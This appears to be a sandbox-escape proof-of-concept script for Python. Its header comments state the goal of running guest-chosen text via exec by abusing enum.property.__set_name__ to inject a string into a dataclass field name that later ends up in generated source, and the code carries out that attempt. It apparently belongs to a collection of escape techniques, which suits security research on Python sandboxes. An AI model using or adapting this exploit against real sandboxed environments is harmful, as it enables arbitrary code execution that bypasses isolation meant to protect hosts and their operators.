# technique: enum.property.__set_name__ sets the name of a real field of a dataclass, which is put into source text
# source: reading pyrestrict and GraalPy's library
# goal: run text of the guest's choice
# impact: exec
import enum, dataclasses
f = dataclasses.field()
try:
    enum.property.__set_name__(f, None, 'evil text')
except Exception as e: print(type(e), e)
if f.name == 'evil text': escaped(f.name)
